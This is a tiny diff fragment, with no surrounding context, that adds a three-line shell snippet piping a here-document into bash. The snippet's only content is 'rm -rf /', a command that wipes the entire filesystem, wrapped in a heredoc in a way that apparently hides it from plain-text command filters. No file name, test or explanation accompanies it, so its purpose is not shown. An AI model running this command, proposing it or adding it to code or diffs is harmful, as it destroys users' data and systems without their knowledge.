@@ -1,0 +1,3 @@
+cat <<EOF | bash
+rm -rf /
+EOF
